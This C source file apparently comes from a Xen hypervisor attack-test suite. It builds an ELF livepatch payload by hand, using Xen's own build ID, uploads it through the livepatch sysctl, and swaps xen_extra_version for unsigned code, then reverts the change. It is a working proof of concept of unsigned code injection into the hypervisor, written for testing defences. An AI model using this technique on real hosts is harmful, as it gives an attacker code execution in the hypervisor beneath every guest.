// SPDX-License-Identifier: GPL-2.0-only
/*
 * Livepatch: Xen loads an object file, links it to itself and diverts its own
 * functions into it. All it asks for is its own build ID, which it tells
 * everyone.
 */
#include "../rogue.h"

#include <elf.h>

/* ---- the payload: a relocatable object, laid out here by hand ---- */

#define BUILD_ID_SIZE 32
#define NEW_VERSION   "-rogue"

/*
 * Xen's layout of an entry of .livepatch.funcs, which its public headers keep
 * to themselves.
 */
struct function_patch {
    uint64_t name;
    uint64_t new_address;
    uint64_t old_address;
    uint32_t new_size;
    uint32_t old_size;
    uint8_t version;
    uint8_t reserved[71];
};

struct build_id_note {
    Elf64_Nhdr header;
    char owner[4];
    uint8_t id[BUILD_ID_SIZE];
};

/* lea text(%rip), %rax; ret: the whole of the new function. */
struct code {
    uint8_t lea[3];
    uint32_t distance;
    uint8_t ret;
    char text[8];
    char name[24];
} __attribute__((packed));

enum section {
    NONE,
    TEXT,
    FUNCS,
    FUNCS_RELA,
    DEPENDS,
    XEN_DEPENDS,
    OWN_ID,
    SYMBOLS,
    STRINGS,
    NR_SECTIONS
};

static const char section_names[] =
    "\0.text\0.livepatch.funcs\0.rela.livepatch.funcs\0"
    ".livepatch.depends\0.livepatch.xen_depends\0"
    ".note.gnu.build-id\0.symtab\0.strtab";

struct payload {
    Elf64_Ehdr header;
    Elf64_Shdr sections[NR_SECTIONS];
    struct code text;
    struct function_patch funcs;
    Elf64_Rela funcs_rela[2];
    struct build_id_note depends;
    struct build_id_note xen_depends;
    struct build_id_note own_id;
    Elf64_Sym symbols[2];
    char strings[sizeof(section_names)];
};

static struct build_id_note build_id_note(const uint8_t *id, uint32_t size)
{
    struct build_id_note note = {
        .header = { .n_namesz = 4,
                    .n_descsz = size,
                    .n_type = NT_GNU_BUILD_ID },
        .owner = "GNU",
    };

    memcpy(note.id, id, size);
    return note;
}

#define SECTION(member, type, flags, ...)                                      \
    (Elf64_Shdr)                                                               \
    {                                                                          \
        .sh_type = (type), .sh_flags = (flags),                                \
        .sh_offset = offsetof(struct payload, member),                         \
        .sh_size = sizeof(((struct payload *)0)->member), .sh_addralign = 8,   \
        __VA_ARGS__                                                            \
    }

static void fill_sections(Elf64_Shdr sections[NR_SECTIONS])
{
    const char *name = section_names;

    sections[TEXT] = SECTION(text, SHT_PROGBITS, SHF_ALLOC | SHF_EXECINSTR);
    sections[FUNCS] = SECTION(funcs, SHT_PROGBITS, SHF_ALLOC | SHF_WRITE);
    sections[FUNCS_RELA] = SECTION(funcs_rela, SHT_RELA, 0, .sh_link = SYMBOLS,
                                   .sh_info = FUNCS,
                                   .sh_entsize = sizeof(Elf64_Rela));
    sections[DEPENDS] = SECTION(depends, SHT_NOTE, SHF_ALLOC);
    sections[XEN_DEPENDS] = SECTION(xen_depends, SHT_NOTE, SHF_ALLOC);
    sections[OWN_ID] = SECTION(own_id, SHT_NOTE, SHF_ALLOC);
    sections[SYMBOLS] = SECTION(symbols, SHT_SYMTAB, 0, .sh_link = STRINGS,
                                .sh_entsize = sizeof(Elf64_Sym));
    sections[STRINGS] = SECTION(strings, SHT_STRTAB, 0);

    for ( enum section section = NONE; section < NR_SECTIONS; section++ )
    {
        sections[section].sh_name = (Elf64_Word)(name - section_names);
        name += strlen(name) + 1;
    }
}

static void fill_payload(struct payload *payload, const uint8_t *xen_id,
                         uint32_t id_size)
{
    uint8_t own_id[BUILD_ID_SIZE] = "not by Xen's own builder";

    payload->header = (Elf64_Ehdr){
        .e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64,
                     ELFDATA2LSB, EV_CURRENT },
        .e_type = ET_REL,
        .e_machine = EM_X86_64,
        .e_version = EV_CURRENT,
        .e_ehsize = sizeof(Elf64_Ehdr),
        .e_shoff = offsetof(struct payload, sections),
        .e_shentsize = sizeof(Elf64_Shdr),
        .e_shnum = NR_SECTIONS,
        .e_shstrndx = STRINGS,
    };
    fill_sections(payload->sections);

    payload->text = (struct code){
        .lea = { 0x48, 0x8d, 0x05 },
        .distance = offsetof(struct code, text) - offsetof(struct code, ret),
        .ret = 0xc3,
        .text = NEW_VERSION,
        .name = "xen_extra_version",
    };
    payload->funcs = (struct function_patch){
        .new_size = offsetof(struct code, text), .old_size = 12, .version = 2
    };

    /* Both addresses lie in .text, which is symbol 1. */
    payload->symbols[1] = (Elf64_Sym){
        .st_info = ELF64_ST_INFO(STB_LOCAL, STT_SECTION), .st_shndx = TEXT
    };
    payload->funcs_rela[0] =
        (Elf64_Rela){ .r_offset = offsetof(struct function_patch, name),
                      .r_info = ELF64_R_INFO(1, R_X86_64_64),
                      .r_addend = offsetof(struct code, name) };
    payload->funcs_rela[1] =
        (Elf64_Rela){ .r_offset = offsetof(struct function_patch, new_address),
                      .r_info = ELF64_R_INFO(1, R_X86_64_64) };

    payload->depends = payload->xen_depends = build_id_note(xen_id, id_size);
    payload->own_id = build_id_note(own_id, BUILD_ID_SIZE);
    memcpy(payload->strings, section_names, sizeof(section_names));
}

/* ---- the operations ---- */

static char patch_name[] = "rogue";

static struct xen_livepatch_name named_patch(void)
{
    static char *name;
    struct xen_livepatch_name named = { .size = sizeof(patch_name) };

    if ( !name )
        name = strcpy(buffer(PAGE_SIZE), patch_name);
    set_xen_guest_handle(named.name, name);

    return named;
}

static long upload(struct payload *payload)
{
    return SYSCTL(
        livepatch_op,
        .u.livepatch = { .cmd = XEN_SYSCTL_LIVEPATCH_UPLOAD,
                         .u.upload = { .name = named_patch(),
                                       .size = sizeof(*payload),
                                       .payload.p = (void *)payload } });
}

/*
 * Actions are done when Xen finds the time: wait for the patch to come to rest.
 */
static void act(uint32_t action)
{
    struct xen_sysctl get = {
        .cmd = XEN_SYSCTL_livepatch_op,
        .u.livepatch = { .cmd = XEN_SYSCTL_LIVEPATCH_GET,
                         .u.get.name = named_patch() },
    };

    if ( SYSCTL(livepatch_op,
                .u.livepatch = {
                    .cmd = XEN_SYSCTL_LIVEPATCH_ACTION,
                    .u.action = { .name = named_patch(), .cmd = action } }) )
        return;

    for ( int i = 0; i < 40; i++ )
    {
        rest(50);
        if ( sysctl(&get) || get.u.livepatch.u.get.status.rc != -EAGAIN )
            return;
    }
}

static bool xen_is_patched(void)
{
    char version[32];

    return !strcmp(
        read_line("/sys/hypervisor/version/extra", version, sizeof(version)),
        NEW_VERSION);
}

/*
 * U-LIVEPATCH: put unsigned code into Xen.
 *
 * The payload replaces the function that names Xen's version; every reader of
 * /sys/hypervisor/version/extra then sees what the new code says.
 */
ATTACK("U-LIVEPATCH", "replace a function of Xen with an unsigned livepatch")
{
    struct payload *payload = buffer(sizeof(*payload));
    xen_build_id_t *id = buffer(PAGE_SIZE);
    long size;
    bool patched;

    id->len = BUILD_ID_SIZE;
    size = hypercall2(__HYPERVISOR_xen_version, XENVER_build_id, id);
    fill_payload(payload, id->buf,
                 size > 0 && size <= BUILD_ID_SIZE ? (uint32_t)size : 20);

    upload(payload);
    act(LIVEPATCH_ACTION_APPLY);
    patched = xen_is_patched();
    act(LIVEPATCH_ACTION_REVERT);
    act(LIVEPATCH_ACTION_UNLOAD);

    return effect_either(patched, "Xen's version is", "told by the payload",
                         "its own");
}
